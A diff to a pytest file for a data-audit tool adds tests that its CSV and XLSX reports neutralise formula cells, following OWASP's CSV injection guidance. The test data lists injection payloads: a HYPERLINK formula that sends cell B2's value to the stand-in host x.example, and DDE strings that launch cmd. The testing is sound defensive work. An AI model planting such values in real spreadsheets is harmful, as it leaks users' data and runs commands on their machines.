@@ -1,6 +1,7 @@
 """Reading exports for the audit (CSV and XLSX, found by header) and writing its report."""
 
 import csv
+import zipfile
 from datetime import date, datetime
 
 import pytest
@@ -199,7 +200,8 @@ def test_the_report_has_the_input_columns_then_status_units_and_findings(tmp_pat
     assert got[1][:12] == ROWS[0][0] and got[1][12:14] == ["ok", "7"]
     assert got[2][12:14] == ["finding", "7"] and got[2][14].startswith("units_differ: ")
     assert "San Diego" in got[2][14]
-    assert got[3][1] == "=HYPERLINK(\"x\")"  # kept as text, not made a formula
+    # kept as text, not made a formula (the CSV's marked so that a spreadsheet will not run it)
+    assert got[3][1] == ("'" if suffix == ".csv" else "") + "=HYPERLINK(\"x\")"
     assert got[3][15] == "extra"  # a cell beyond the header is kept, after the audit's
     assert got[4][15:] == [f"x{n}" for n in range(20)]  # columns P to AI
     # a control character XML cannot hold: kept in the CSV, U+FFFD in the XLSX
@@ -222,3 +224,36 @@ def test_xlsx_dates_with_a_time_of_day_are_read_as_the_date(tmp_path, audited):
     book.save(tmp_path / "d.xlsx")
     result, _ = audited(tmp_path / "d.xlsx")
     assert [kinds for _, _, kinds, _ in result] == [[], ["duplicate"]]
+
+
+FORMULAS = ['=HYPERLINK("http://x.example/?"&B2,"click")', "+cmd|'/C calc'!A0", "-2+3",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
+def test_cells_a_spreadsheet_would_run_are_never_formulas_in_the_report(tmp_path, suffix,
+                                                                       rules):
+    """OWASP's CSV injection: an input cell that begins with = + - @ tab or CR is written
+    with a leading ' in the CSV report; the XLSX report writes every such cell as text."""
+    rows = [[GOOD_DATE, cell, "RN", "H0034", "", "", "100", "", "7", "", "", ""]
+            for cell in FORMULAS]
+    table = open_table(write_csv(tmp_path / "in.csv", ["=Date", *HEADER[1:]], rows))
+    out = tmp_path / f"report{suffix}"
+    with ReportWriter(out, table) as report:
+        for result in Audit(rules).run(LineReader(table)):
+            report.write(result.line.cells, result)
+    if suffix == ".csv":
+        with out.open(encoding="utf-8-sig", newline="") as fh:
+            got = list(csv.reader(fh))
+        assert got[0][0] == "'=Date"
+        assert [r[1] for r in got[1:]] == ["'" + f for f in FORMULAS]
+        assert [r[13] for r in got[1:]] == ["7"] * len(FORMULAS)  # the audit's own number
+        return
+    sheet = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet and "<f " not in sheet
+    book = load_workbook(out)
+    assert [book.active.cell(row=n, column=2).data_type for n in range(2, 8)] == ["s"] * 6
+    assert [book.active.cell(row=n, column=2).value for n in range(2, 8)] == FORMULAS
+
+
+GOOD_DATE = "2025-03-03"
